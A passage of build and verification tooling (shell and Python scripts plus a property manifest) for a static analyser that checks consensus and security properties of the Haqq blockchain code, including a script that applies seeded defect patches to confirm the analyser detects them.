#!/bin/sh
# usage: run.sh <property-id> [quick|thorough]
# Builds the analyser if needed (offline) and decides the property on /repo's current working tree.
set -u
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off
unset GOWORK_FILE 2>/dev/null || true
BIN=./bin/haqqcheck
need=0
[ -x "$BIN" ] || need=1
if [ $need -eq 0 ]; then
  for f in checker/*.go checker/go.mod; do
    [ "$f" -nt "$BIN" ] && need=1 && break
  done
fi
if [ $need -eq 1 ]; then
  mkdir -p bin
  (cd checker && go build -o ../bin/haqqcheck .) || { echo "ANALYSER-FAILURE: cannot build haqqcheck"; exit 2; }
fi
PROP="$1"; TIER="${2:-${VERIF_TIER:-quick}}"
exec "$BIN" -property "$PROP" -tier "$TIER" -repo "${VERIF_REPO:-/repo}" -verif "$(pwd)"
