#!/bin/sh
# usage: run.sh <property-id> [quick|thorough]
# Builds the analyser if needed (offline) and decides the property on /repo's current working tree.
set -u
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off
unset GOWORK_FILE 2>/dev/null || true
BIN=./bin/haqqcheck
need=0
[ -x "$BIN" ] || need=1
if [ $need -eq 0 ]; then
  for f in checker/*.go checker/go.mod; do
    [ "$f" -nt "$BIN" ] && need=1 && break
  done
fi
if [ $need -eq 1 ]; then
  mkdir -p bin
  (cd checker && go build -o ../bin/haqqcheck .) || { echo "ANALYSER-FAILURE: cannot build haqqcheck"; exit 2; }
fi
PROP="$1"; TIER="${2:-${VERIF_TIER:-quick}}"
OUT=$(mktemp "${TMPDIR:-/tmp}/haqqcheck.$PROP.XXXXXX") || exit 2
trap 'rm -f "$OUT"' EXIT
"$BIN" -property "$PROP" -tier "$TIER" -repo "${VERIF_REPO:-/repo}" -verif "$(pwd)" >"$OUT" 2>&1
rc=$?
# A non-zero exit without a VIOLATION line is not a verdict: the program could not be loaded or a self-test mutant
# could not be analysed (seen when something else on the machine trims the Go build cache under the loader).
# Try once more before reporting it; a verdict (exit 0, or exit 1 with VIOLATION lines) is never retried.
if [ $rc -ne 0 ] && ! grep -q '^VIOLATION' "$OUT"; then
  cat "$OUT"
  echo "run.sh: no verdict (exit $rc without a VIOLATION line); analysing once more"
  sleep 3
  "$BIN" -property "$PROP" -tier "$TIER" -repo "${VERIF_REPO:-/repo}" -verif "$(pwd)" >"$OUT" 2>&1
  rc=$?
fi
cat "$OUT"
exit $rc
