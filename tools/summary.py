#!/usr/bin/env python3
# prints the totals DESIGN §0 quotes, from what the last run wrote and what is committed
import json, glob, os, subprocess
tot = dis = kf = vio = 0
per = []
for i in range(1, 21):
    p = 'C%02d' % i
    c = json.load(open('/verif/evidence/%s.json' % p))['coverage']
    tot += c['obligations']; dis += c['discharged']; kf += c['known_findings']; vio += c['violated']
    per.append('%s %d' % (p, c['obligations']))
k = json.load(open('/verif/known_findings.json'))['findings']
op = [f for f in k if f['status'] == 'open']; fx = [f for f in k if f['status'] == 'fixed']
nm = len(json.load(open('/verif/mutants.json')))
ns = len([d for d in os.listdir('/verif/seeded') if os.path.isdir('/verif/seeded/' + d)])
nf = int(subprocess.run("git -C /repo log --oneline | grep -c ' fix:'", shell=True, capture_output=True, text=True).stdout)
print('tier %s: %d obligations (%s), %d discharged, %d known-finding, %d violated' % (json.load(open('/verif/evidence/C01.json'))['tier'], tot, ', '.join(per), dis, kf, vio))
print('known_findings.json: %d open keys, %d fixed entries; %d fix: commits; %d mutants; %d seeded dirs' % (len(op), len(fx), nf, nm, ns))
