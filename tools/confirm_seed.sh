#!/bin/bash
# usage: confirm_seed.sh <seed-src-dir> <name>   e.g. /tmp/seed-out/C14/A C14-A
# Confirms in a scratch worktree of /repo HEAD: patch applies, builds, existing suite passes, demo fails with / passes without.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
src="$1"; name="$2"; wt=/tmp/confirm/$name; out=/tmp/confirm/$name.result
mkdir -p /tmp/confirm; rm -f "$out"
git -C /repo worktree remove --force "$wt" 2>/dev/null; rm -rf "$wt"
git -C /repo worktree add -q --detach "$wt" HEAD || { echo "worktree failed" > "$out"; exit 1; }
cd "$wt"
echo "HEAD: $(git rev-parse --short HEAD)" >> "$out"
log() { echo "$@" | tee -a "$out"; }
if ! git apply "$src/patch.diff" 2>>"$out"; then log "APPLY: FAIL"; git -C /repo worktree remove --force "$wt"; exit 1; fi
log "APPLY: ok"
if go build ./... >>"$out" 2>&1; then log "BUILD: ok"; else log "BUILD: FAIL"; fi
# existing suite with the change (no demo)
go test -vet=off -count=1 -timeout 25m ./... > /tmp/confirm/$name.suite.log 2>&1
fails=$(grep -E "^(FAIL|---)" /tmp/confirm/$name.suite.log | grep -E "^FAIL\s" | grep -v "haqq/client\s\|haqq/precompiles/p256\s" | tr '\n' ' ')
if [ -z "$fails" ]; then log "SUITE-WITH-CHANGE: ok (only known client failure tolerated)"; else log "SUITE-WITH-CHANGE: FAIL $fails"; fi
# demo with the change
pkgs=""
if [ -d "$src/demo" ]; then
  (cd "$src/demo" && find . -type f) | while read f; do mkdir -p "$(dirname "$f")"; cp "$src/demo/$f" "$f"; done
  pkgs=$(cd "$src/demo" && find . -name '*_test.go' -exec dirname {} \; | sort -u | tr '\n' ' ')
fi
log "DEMO-PKGS: $pkgs"
if [ -n "$pkgs" ]; then
  if go test -vet=off -count=1 $pkgs > /tmp/confirm/$name.demo_with.log 2>&1; then log "DEMO-WITH-CHANGE: passes (BAD: should fail)"; else log "DEMO-WITH-CHANGE: fails (expected)"; fi
  git apply -R "$src/patch.diff"
  if go test -vet=off -count=1 $pkgs > /tmp/confirm/$name.demo_without.log 2>&1; then log "DEMO-WITHOUT-CHANGE: passes (expected)"; else log "DEMO-WITHOUT-CHANGE: fails (BAD)"; fi
fi
cd /; git -C /repo worktree remove --force "$wt"
log "DONE"
