#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (kept next to the checker so that the
claimed clause, the declined clauses and the technique of every property live in one place)."""
import json

PROPS = [json.loads(l) for l in open('/verif/properties.jsonl')]

# id -> (claimed clause, trusted/declined note, technique)
CLAIMS = {
 "C01": ("determinism lint over consensus-reachable Haqq code (scope by interface-implementation roots): order-insensitive map ranges, no clock/random/env/CPU-count/goroutines/channels/locks, no package-variable writes, floats only into telemetry, complete module orders, TPS counter observes only, node-local app options used only under IsCheckTx, maps.Keys results sorted",
         "trusted: determinism of cosmos-sdk, CometBFT, go-ethereum; totality of sort comparators. Not decided: that two replicas actually produce equal app hashes (run-time).",
         "static analysis: call-graph reachability from interface-derived consensus roots + AST/SSA determinism lint + interprocedural taint of node-local configuration"),
 "C02": ("who-may-mint for the evm module account; flush (StateDB.Commit) before every precompile handler; Commit writes every journal-dirty account, SetAccount always sets the balance, SetBalance mints/burns exactly the delta paired with the matching send, zero-amount balance changes journal nothing; every bank-moving precompile effect is mirrored into the StateDB on every success path with caller != origin; precompile address tables agree and are blocked",
         "trusted: frozen table of which SDK msg-server/keeper methods move bank balances (confirmed by reading cosmos-sdk v0.47.12-evmos.2 and ibc-go v7.4.0; a dependency upgrade that makes a further method move balances is not noticed until the table is extended); geth moves value only through StateDB. Not decided: the per-account balance equation and correctness of mirrored amounts.",
         "static analysis: SSA CFG must-pass-through with bypass-edge deletion, who-may-call tables, def-use slices, table agreement"),
 "C03": ("ante chains contain signature/nonce decorators in the required partial order; the eth signature decorator reaches next only through signer.Sender with the keeper's chain id and rejects unprotected txs unless allowed; nonce equality precedes the sequence increment; EIP-712 verification returns nil only after chain-id, pubkey, fee-payer and secp256k1 checks; MsgEthereumTx.From is written only by the signature verifier; ethsecp256k1 verification goes through crypto.VerifySignature over the Keccak hash; the EIP-712 sign-doc decoders read every field of SignDoc/TxBody/AuthInfo/Fee (today: known findings for fee granter/payer)",
         "trusted: go-ethereum signers, secp256k1, apitypes EIP-712 hashing, SDK SigVerificationDecorator. Not decided: that the signed hash covers every field (encoding correctness), malleability.",
         "static analysis: ordered table of resolved decorator types, SSA guard-edge must-pass-through, field-write ownership"),
 "C04": ("every precompile transaction handler reaches its Cosmos-side effect only where the calldata-named account equals signer or caller; staking/ICS-20 effects are preceded by a grant check, followed by the grant update and pass Authorization.Accept unless caller==origin; grants written by approve/revoke/increase/decrease use evm.Origin as granter; check and update address the same grant",
         "trusted: SDK/ibc-go Authorization.Accept arithmetic. Not decided: that a limited grant is reduced by exactly the amount.",
         "static analysis: SSA CFG reachability with equality-edge deletion, wrapper summaries, interprocedural root tracing of arguments"),
 "C05": ("a journal entry restoring the SDK context must exist and be registered before precompile dispatch (today: known findings); ApplyTransaction always executes message and hooks on a cache context and commits it only when the EVM did not fail and hooks succeeded; hooks are installed; every write to revertible StateDB state is journaled and every entry's Revert restores from its recorded fields",
         "trusted: geth calls Snapshot/RevertToSnapshot around each frame; sdk CacheContext semantics.",
         "static analysis: type/implementation enumeration, SSA CFG must-pass-through, write-site ownership over struct fields"),
 "C06": ("route switch = exactly three extension options mapped to their chain constructors, anything else fails; Cosmos chains start with Reject+AuthzLimiter(MsgEthereumTx); extension-option cardinality checks; every eth-route decorator accepts only MsgEthereumTx; recursive authz scan is exhaustive over nested-message carriers, recurses with the inner flag and a level cap; the app installs this handler; in every Haqq decorator each call of next is preceded by the GetMsgs scan except over that decorator's tabled bypass edges",
         "trusted: baseapp runs the ante handler before execution; gov/ICA execute inner messages with module signers.",
         "static analysis: constant-case tables from SSA, decorator-order tables, type-assert edge reachability, type enumeration over the import closure"),
 "C07": ("fee-floor decorators are present and ordered before fee deduction on all three routes; next is reachable only through the fee >= required comparison (bypass: zero min price / simulate); fee cap >= base fee precedes success; every successful ApplyTransaction path refunds msg.Gas()-res.GasUsed from the fee collector to the sender; gas used depends on the min-gas multiplier, the limit and the EVM leftover, the min-gas floor is applied last; EthGasConsumeDecorator deducts exactly the verified fee from msg.GetFrom(); EffectiveGasPrice has go-ethereum's shape",
         "trusted: sdk.Dec/big.Int arithmetic. Not decided: sender_delta == gasUsed x price == collector_delta, gasUsed <= gasLimit (numeric).",
         "static analysis: decorator-order tables, SSA guard-edge must-pass-through, def-use dependence"),
 "C08": ("ClawbackVestingAccount implements the SDK VestingAccount interface the bank keeper consults; SDK staking msg server is only constructed by the Haqq wrapper and the wrapper is what the module and the precompile use; Delegate/CreateValidator check the unvested amount before the embedded call; the eth vesting decorator is in the chain before fee deduction; vested-coin delegation takes its amount from the message's own schedule; every EndTime store depends on both the lockup and the vesting periods",
         "trusted: cosmos-sdk bank keeper enforces LockedCoins on every debit. Not decided: the inequality balance >= locked over histories; delegation-tracking arithmetic.",
         "static analysis: types.Implements, who-may-call tables, SSA must-pass-through, decorator-order table"),
 "C09": ("clawback, funder update and grant merge happen only after comparing with the recorded funder; transferClawback stores the updated account and sends exactly the coins computed by ComputeClawback to the destination; FunderAddress is written only by those functions; addGrant stores all five merged schedule fields on every success path; ReadSchedule/ReadPastPeriodCount treat a period ending exactly at the read time as ended and handle both limits up front",
         "Not decided (declared not applicable to this technique): all schedule arithmetic - ReadSchedule monotonicity/limits, Disjunct/Conjunct exactness, vested+unvested=original.",
         "static analysis: SSA guard-edge must-pass-through, def-use same-source, field-write ownership"),
 "C10": ("each of the four conversion functions escrows/burns and mints/unescrows the same amount value on every success path and checks the balance post-condition; erc20 module-account mint/burn only at the confirmed sites; no failure branch returns a nil-wrapped error; IBC callbacks convert only through ConvertCoin and surface its error as an error acknowledgement; hook mint must be escrow-verified (today: known finding)",
         "trusted: EVM execution of the ERC20 contract, bank keeper. Not decided: the backing equation over histories against arbitrary bytecode.",
         "static analysis: SSA event pairing (must-pass-through both directions), def-use same-source, who-may-mint table, nilness-based wrap(nil) detection"),
 "C11": ("Liquidate and Redeem pair escrow<->mint and burn<->release of the message amount on every success path, update the denom schedule store and re-apply the vesting schedule; only these functions mint/burn liquid denoms; denom store writers are the keeper's own; the denom store records the schedule it is handed unmodified; CurrentPeriodShift uses the same boundary convention as ReadPastPeriodCount",
         "Not decided: per-period exactness of SubtractAmountFromPeriods, 'nothing unlocks earlier' (schedule arithmetic).",
         "static analysis: SSA event pairing, def-use same-source, who-may-call tables"),
 "C12": ("ledger stores are written only by the keeper's setters from Fund/TransferOwnership/genesis; Fund escrows before any ledger write and pairs each credit with the total update of the same coin; no stale write-back over a possibly-aliased key; TransferOwnership credits exactly its amount parameter, touches only owner/newOwner and never the total; handlers validate first",
         "trusted: sdk.Coins arithmetic. Not decided: the numeric sum(holders)=total=module balance over histories.",
         "static analysis: who-may-call/store-write ownership, SSA event pairing, lost-update (stale read/write-back) detection on keyed ledgers"),
 "C13": ("only MintAndAllocate mints for the coinomics account and only under the enable flag; nothing is minted on the first block after activation; the minted coin is the coin sent to the fee collector; the amount depends on bonded tokens, coefficient, block time, previous timestamp, max supply and supply; the timestamp is updated; minting is switched off only on the cap branch where the amount becomes maxSupply - supply; the block mint is rounded one way only; the block time enters only as a timestamp or through Year() and a hand-written leap predicate uses exactly {4,100,400}; while disabled EndBlocker forgets the last timestamp",
         "Not decided: the formula itself, the value of the rounding and of the two year-length constants, the cap as a numeric bound.",
         "static analysis: who-may-mint table, SSA guard-edge must-pass-through, def-use dependence"),
 "C14": ("BurnCoins override redirects exactly gov/bonded/not-bonded, sends the same coins to the distribution account and adds DecCoins(amounts) to the fee pool on every success path, never reaches the embedded burn there and always elsewhere; staking and gov keepers are built with the overriding keeper",
         "trusted: SDK SendCoinsFromModuleToModule and DecCoins.Add. Not decided: numeric equality of pool growth.",
         "static analysis: switch-constant table, SSA CFG must-pass-through per branch, def-use dependence, static types of wiring arguments"),
 "C15": ("each Haqq keeper opens only its own module's store key (traced to NewHaqq), with tabled exceptions; Haqq code changes balances only through bank keeper API methods; mint/burn authority per module account is tabled; invariants are registered and crisis runs first in EndBlock; the fee-pool record is written together with the coin move (same rule code as C14 R2); the EVM balance write-back mints/burns exactly the delta, writes every dirty account and journals nothing for zero amounts (same rule code as C02 R3)",
         "trusted: the SDK invariants themselves. Not decided: that the invariants hold after every block (run-time).",
         "static analysis: store-key provenance tracing, who-may-call tables, module-order table"),
 "C16": ("per wired precompile: ABI functions = Run switch cases, IsTransaction is exactly the set of state-changing handlers; each transaction handler dispatches to the tabled native message-server method with the decoder's message unmodified, the module's own message server, and a decoder whose message depends on the address it returns; SDK gas is charged to the EVM contract on every success path and the meter is limited by contract gas; closures that query handlers pass to keeper Iterate* never cut the iteration short",
         "trusted: SDK message servers implement the native messages; go-ethereum abi decoding. Not decided: equality of resulting stores/outputs and query results with the native paths.",
         "static analysis: table agreement (embedded ABI JSON vs switch constants vs classification), def-use provenance of the message argument, SSA must-pass-through for gas"),
 "C17": ("base fee has a single consensus writer (BeginBlock) that stores exactly CalculateBaseFee's result; block gas wanted is written only in EndBlock/InitGenesis and depends on transient gas wanted, the min-gas multiplier and the block gas meter; EndBlock stores on every path; CalculateBaseFee writes no state, its result depends on all EIP-1559 inputs and its three branches have the EIP-1559 shape (copy / Add(parent, max(delta,1)) / max(parent-delta, MinGasPrice))",
         "Not decided (declared not applicable to this technique): the EIP-1559 function itself, its bounds and monotonicity.",
         "static analysis: who-may-call tables, def-use dependence"),
 "C18": ("per transaction type the proto<->geth field maps are exhaustive in both directions (every struct field assigned / read, through getters), Copy covers every field, NewTxDataFromTx covers every tx type with a TxData implementation, MsgEthereumTx.Hash is only written from tx.Hash() and compared in ValidateBasic; fee figures depend on the right fields with a single definition of the effective gas price; access-list conversions allocate a fresh key slice per tuple",
         "Not decided: hash/sender/field equality under encode->decode (run-time round trip).",
         "static analysis: struct-field coverage tables over composite literals and field accesses, field-write ownership"),
 "C19": ("per Haqq module the GenesisState fields produced by ExportGenesis equal the fields consumed by InitGenesis; every store prefix written at run time is read on export and written on import (or tabled as derived); import of a field is not conditional on another field; evm accounts export code and storage; the app exports through the module manager",
         "Not decided: query-level equality of re-imported state, nested-field fidelity.",
         "static analysis: struct-field symmetry tables, call-graph reachability to store-prefix users"),
 "C20": ("process-local state (keeper/precompile/decorator fields, maps and concurrent containers held by them) is written in consensus scope only by the idempotent chain-id re-derivation; the run-time precompile registry mutator is unreachable from consensus roots; stores are mounted and loaded and the precompile registry is installed on every constructor path",
         "trusted: CometBFT/IAVL/store behaviour across restart.",
         "static analysis: field-write ownership against consensus reachability, call-graph unreachability, constructor must-pass-through"),
}

# clauses / techniques added in later sessions: (extra claimed clause, extra note, extra technique)
EXTRA = {
 "C01": ("; the comparator of every collect-then-sort over map keys orders whole keys (no sub-slice / single component / subset of fields); held maps (fields of keeper/decorator types, package-level maps) are neither emptied nor handed to functions that write into them", "", ""),
 "C02": ("; CreateAccount carries the previous object's balance over whenever one exists; the journal discipline of x/evm/statedb (same rule code as C05 R4) including 'what is written after journal.append(E) is what E.Revert restores'; thorough tier W1: through cosmos-sdk/ibc-go themselves (whole program with bodies, VTA call graph, per-call-site binding of callbacks) a call made by a precompile handler can reach the bank keeper's balance writer iff it is a tabled bank-moving effect", " The thorough tier re-derives the frozen effects table from the dependencies' source on every run.", "; thorough: whole-program VTA call-graph reachability with per-site callback binding"),
 "C03": ("; the EIP-712 route reaches next only with exactly one signature and as many signatures as signers; a freshly constructed base account (sequence 0) is used only for addresses that had no account; the sender's nonce is never rewound by keeper code", "", ""),
 "C04": ("; the grant check compares the requested amount with the grant's limit before the effect; grant checks and updates are keyed by the type URL of the handler's own message; a re-saved grant keeps its expiration; thorough tier W3: every handler call that can reach a store write (whole program, VTA) is one the quick rules classify as a Cosmos-side effect", "", "; thorough: whole-program VTA call-graph reachability"),
 "C05": ("; a Revert never writes a constant into revertible state; everything a function writes after journal.append(E) is restored by E.Revert", "", ""),
 "C06": ("; the reject decorator examines every message (its failing assertion edge continues the scan); thorough tier W7: baseapp.runTx runs the installed ante handler (error-checked) before runMsgs", "", "; thorough: SSA path rule on the dependency's source"),
 "C07": ("; neither the required fee nor the price whose IsZero opens the bypass is rounded down (Truncate*/Floor) in the two minimum-gas-price decorators", "", ""),
 "C08": ("; HasLockedCoins is defined by the lock-up schedule alone and ConvertVestingAccount stores a plain account only when nothing is unvested or locked up; thorough tier W5: the premise 'the SDK bank keeper consults LockedCoins on every debit' re-derived from the pinned cosmos-sdk source (balance writers, callers of setBalance, subUnlockedCoins' LockedCoins read, callers of DelegateCoins)", " The thorough tier checks the bank-keeper premise on the dependency's source.", "; thorough: whole-program call-graph and SSA path rules on cosmos-sdk x/bank"),
 "C09": ("; DisjunctPeriods' emitting closure appends a period on every path and rewrites an emitted period only under an equality of event times", "", ""),
 "C10": ("; module state lives only in the multistore; thorough tier W8: ibc core commits the application's cached writes only where the acknowledgement is nil or successful", "", "; thorough: SSA path rule on ibc-go core"),
 "C11": ("; every period amount SubtractAmountFromPeriods writes is computed with a coin of the requested denomination; module state lives only in the multistore", "", ""),
 "C12": ("; every requested coin is looked up in the owner's balance and a missing one fails the transfer; genesis totals derive from the imported balances; BlockedAddrs skips no module account; module state lives only in the multistore (a memoised ledger value would survive a reverted message)", "", ""),
 "C13": ("; every path to the mint evaluates supply + mint > max supply first; module state lives only in the multistore", "", ""),
 "C14": ("; thorough tier W6: every BurnCoins call of cosmos-sdk x/staking, x/gov, x/slashing, x/evidence names, as a constant, one of the redirected accounts", "", "; thorough: constant-argument table over the dependency's source"),
 "C15": ("; every module account of maccPerms is blocked (no account skipped); hooks are set before by-value keeper copies", "", ""),
 "C16": ("; before the native call a handler fails only on decoder errors, identity/grant checks and tabled shared pre-conditions, and the native call is made (error-checked) on every success path; each read-only method answers from its tabled native read; GetCoinAddress resolves registered pairs before the hash-derived voucher address; the SDK queries that write run on a discarded cache context; thorough tier W2: no handler outside IsTransaction can reach a Set/Delete of any cosmos-sdk store implementation through any callee (whole program, VTA, per-site callback binding), and every transaction handler can (control)", "", "; thorough: whole-program VTA call-graph reachability with per-site callback binding"),
 "C17": ("; CalculateBaseFee and its helpers use no machine-word multiplication/shift/addition; the two operands of the EndBlock maximum are pure (declared figure independent of the block gas meter, consumed figure dependent on nothing else); feemarket state lives only in the multistore", "", ""),
 "C18": ("; GetSender returns only an address recovered by signer.Sender (never the From field) and GetSigners derives from it", "", ""),
 "C19": ("; export never paginates or stops early; each import loop writes every element; InitGenesis never overwrites a field of the imported document (tabled: reorder / default-when-unset)", "", ""),
 "C20": ("; in the query scope (everything reachable from QueryServer implementations) the chain id handed to EVMConfig never derives from the keeper field that BeginBlock re-derives; memory stores are created only for the tabled self-rebuilding dependency module", "", ""),
}
for _k, (_c, _n, _t) in EXTRA.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0 + _n, t0 + _t)

# clauses added by the rules written for the wave-4 and wave-5 seeded changes
EXTRA2 = {
 "C01": "; a time.Time built from a timestamp is not queried for calendar fields or formatted before UTC(); the receiver of a big-number mutator never aliases a pointer held by a package-level variable of any package (common.Big1 …) and every package-level slice used as an append prefix has len == cap",
 "C02": "; the journal's dirty set is a per-address reference count; the x/evm and x/bank parameter handlers write only where the request's authority equals the keeper's; StateDB.Suicide writes the object's cached balance on every return for an existing object",
 "C03": "; the unsigned Cosmos envelope of an Ethereum transaction is pinned to the signed content (fee, gas, no extras); in ethereum/eip712 the sign doc's message list is never cut, is returned whole, and every message of it is handed on",
 "C04": "; an ics20 allocation is selected only where both port and channel match; in every precompile function with grantee and granter parameters each call that takes such a pair receives them in their own positions",
 "C05": "; a recovered out-of-gas panic surfaces through Run's named error result; the log list is cut back to exactly its length before the journalled AddLog; in spend handlers no grant write can precede the fallible Cosmos-side effect",
 "C06": "; every inner message of a MsgExec is looked up in the disabled-type list, at every nesting level",
 "C07": "; the refund quotient is chosen by the fork rules (London), not by a configuration switch",
 "C08": "; in addGrant both schedule merges run before any of the account's schedule fields is written back",
 "C09": "; addGrant merges lock-up and vesting schedules with DisjunctPeriods before writing any schedule field back; every ValidateBasic loop over schedule periods tests each period's own length and amount",
 "C10": "; the erc20 parameter handler writes only under the keeper's authority; the approval monitor compares every log's first topic; GetTokenPairID reads only the erc20 store under a key of the given token (no other keeper, no scan)",
 "C11": "; the split results of SubtractAmountFromPeriods are handed on unmodified (or as a plain copy) to CreateDenom, UpdateDenomPeriods and ApplyVestingSchedule",
 "C12": "; a credit is a read-add-write of the recipient's stored balance",
 "C13": "; every success exit of MintAndAllocate records the block timestamp (tabled: the negative-amount 'corrupted state' edge)",
 "C14": "; when the community-pool credit is assembled coin by coin no coin is passed over",
 "C15": "; keeper errors on staking/distribution state paths are not dropped; the MsgSend wrapper tests the recipient against the blocked addresses on every success path; an Ethereum transaction runs on a cache context written only on success and an out-of-gas panic in a precompile is a failure (C05 R2/R6 imported)",
 "C16": "; every precompile constructor of a native message returns it only after an error-checked ValidateBasic() of that message; a read-only method never stores into the native response",
 "C17": "; both base-fee activation predicates are height >= EnableHeight; gas quantities are narrowed only through the unsigned IsUint64/Uint64",
 "C18": "; AsTransaction builds the transaction from the message's own Data on every path; the fee BuildTx puts into the envelope is a canonical coin set (coins enter only when positive, or through NewCoins/Add); IsValidInt256 admits every value of at most 256 bits",
 "C19": "",
 "C20": "; no construction-scope function creates a context on the stores; no consensus-scope branch compares a late-bound keeper field unless one side only panics or the sides differ only in the tabled re-derivation",
}
for _k, _c in EXTRA2.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

# clauses added by the rules written for the wave-6 seeded changes and the two direct-call findings
EXTRA3 = {
 "C02": "; after a staking effect that also pays out pending rewards the StateDB mirror's amount is measured from the bank balance (thorough tier W9 re-derives which message-server methods pay rewards); a distribution handler credits the caller only where the withdraw address is the caller",
 "C03": "; every success exit of every Haqq ante decorator passes next",
 "C05": "; RunSetup never flushes the StateDB and every Run flushes only after RunSetup succeeded",
 "C06": "; ante chains are assembled only in the three route constructors, each of which returns its chain itself",
 "C07": "; MsgEthereumTxResponse.GasUsed has a single writer; the refund and fee computations use no machine-word multiplication",
 "C08": "; the EVM keeper's SetAccount writes back the account object it read (a new one only where none was stored)",
 "C09": "; the merge and the new-account branch of CreateClawbackVestingAccount receive their schedules from the same source; the schedule readers advance their clock by every period's length",
 "C11": "; in Liquidate and Redeem a failed keeper step reaches failure exits only",
 "C12": "; in the DAO message path a failed keeper step reaches failure exits only; setHoldersIndex decides by balances and the current entry alone",
 "C13": "; the mint helper mints exactly the coin it is given",
 "C15": "; the MsgMultiSend wrapper tests every output against the blocked addresses; staking pools are named by constants wherever Haqq code moves their coins",
 "C16": "; before the native call a handler fails only on errors of argument decoders and authorization helpers; StateDB mirrors target accounts loaded before the bank change (C02 R4t)",
 "C17": "; the export hands on the persisted gas figure; the declared-gas counter is a plain running sum",
 "C18": "; UnwrapEthereumMsg returns a message only where its recomputed hash equals the requested one; message-level fee getters only delegate to the tx data",
 "C19": "; run-time entries of the erc20 lookup maps are keyed as the import rebuilds them; the DAO holders index is written only by the function the import uses",
}
for _k, _c in EXTRA3.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

# clauses added by the rules written for the defect hunters' findings
EXTRA4 = {
 "C04": "; every construction of a grant-scoping struct in the precompiles assigns all of its fields (allow list included)",
 "C05": "; every Run of a precompile with Cosmos-side effects dispatches on a CacheContext branch written on every success exit and on no failure path; StateDB.Commit must revisit what an earlier mid-transaction Commit wrote (it does not: open known finding)",
 "C07": "; the precompile gas meter's limit covers the gas it is pre-charged with (C16 R3 imported)",
 "C08": "; the EVM keeper removes an account on self-destruct only where it is not a vesting account",
 "C09": "; the funder is recorded as the canonical String() of a parsed address; Validate accepts the start == end account a clawback can leave",
 "C10": "; no transaction handler of a wired precompile reaches a nested EVM execution (ICS-20 transfer does: open known finding)",
 "C11": "; the grant Redeem merges names the module as funder only (it also takes the receiver's funder: open known finding)",
 "C12": "; zero shares are not handed to the keeper; genesis validation can fail (it is a stub: open known finding)",
 "C15": "; the EVM keeper never lowers the balance of a blocked address",
 "C16": "; ABI integers are narrowed only under an IsInt64/IsUint64 guard; the precompile gas meter's limit covers its pre-charge; supplyOf answers for every address balances/totalSupply can list (it does not for unregistered vouchers: open known finding)",
}
for _k, _c in EXTRA4.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

EXTRA5 = {
 "C01": "; a message's To() is dereferenced in consensus scope only under a nil guard (a node-local tracer must not be able to fail)",
 "C13": "; every success exit of MintAndAllocate records the block timestamp, without exception",
 "C14": "; the redirected amounts must be bounded before they are converted into the fee pool's fixed-point numbers (they are not: open known finding)",
 "C17": "; every parameter CalculateBaseFee divides by is compared with zero in Params.Validate; every computed result must pass the minimum-gas-price floor (it does not in two branches: open known finding)",
 "C18": "; the typed-transaction constructors bound the chain id before storing it; the effective price of a dynamic-fee message is its fee cap when there is no base fee",
 "C19": "; the EVM export lists only accounts with 20-byte addresses; the zero-height export decodes store keys with the module's key functions; RegisterCoin's duplicate check is keyed like the denom map",
}
for _k, _c in EXTRA5.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

EXTRA6 = {
 "C02": "; the per-token ERC-20/WERC-20 precompile methods that move bank coins mirror the move in the StateDB (erc20.transfer does not: open known finding); WISLM.deposit hands the attached value back",
 "C04": "; the validator and delegator addresses of the messages a StakeAuthorization matches against its lists are stored in the SDK address type's canonical spelling; a failed spend cannot consume the allowance (C05 R9, per-token precompiles included)",
 "C05": "; uncommitted EVM executions run on a branch that is never written; the StateDB flush writes to a branch merged only when every object was written, and records flushed slots after the merge; the per-token precompiles run their methods on a branch too",
 "C11": "; no result of coin arithmetic that carries a remainder is discarded in the schedule-stretching upgrade code",
 "C15": "; the EVM keeper refuses a blocked address before minting as well as before burning",
 "C16": "; a coin list answered by a native message is read by denomination or under a test of its length",
}
for _k, _c in EXTRA6.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

EXTRA7 = {
 "C01": "; a possibly-nil (node-configured) tracer reaches the EVM in consensus scope only where its state reads cost no gas; the app's BeginBlocker refunds the block context's gas meter",
 "C02": "; the StateDB answers 'no such account' only after asking the keeper in that very call",
 "C07": "; the messages' gas limits are summed under an overflow test",
 "C08": "; the schedule readers advance their clock by every period and Liquidate's guards hold (C09 R11, C11 R1)",
 "C09": "; the schedule readers' start limit is strict (an event at the start time has happened); every accepted period list is shown to fit an int64 end; the direct SDK Delegate bonds what the new grant's own schedule has vested (C08 R3)",
 "C10": "; committing EVM calls appear only in the tabled conversion sites; no amount-handling function takes the mutable number out of an sdk.Int",
 "C11": "; the proportional split is integer arithmetic (multiplication first); a merge stores the later end (C09 R6)",
 "C12": "; a writer of the recorded total outside the keeper acts only where the new total equals the sum of shares; Fund/TransferOwnership have tabled callers only",
 "C13": "; no fallible conversion with a discarded error takes a configured amount; the cap comparison is recognised in Dec or integer form",
 "C15": "; coins leave a staking pool by name only with the amount Unbond reported; a fee pool read is written back with no state-writing call in between",
 "C16": "; answer-struct fields are filled from the native field of the same name",
 "C17": "; the gas target is non-zero wherever it divides",
 "C18": "; the three GetTo getters decide 'creation' by To == \"\" alone; the mempool priority derives from EffectiveGasPrice",
 "C19": "; contract-controlled strings are made valid UTF-8 before they are stored in exported state",
 "C20": "; process-local fields re-derived in BeginBlock are also set when the app is constructed",
}
for _k, _c in EXTRA7.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

EXTRA8 = {
 "C02": "; the EVM keeper answers 'no such account' only after reading the address's bank balance",
 "C03": "; the ante router returns success only through a route; rebuilt parameter sets copy every field from its namesake",
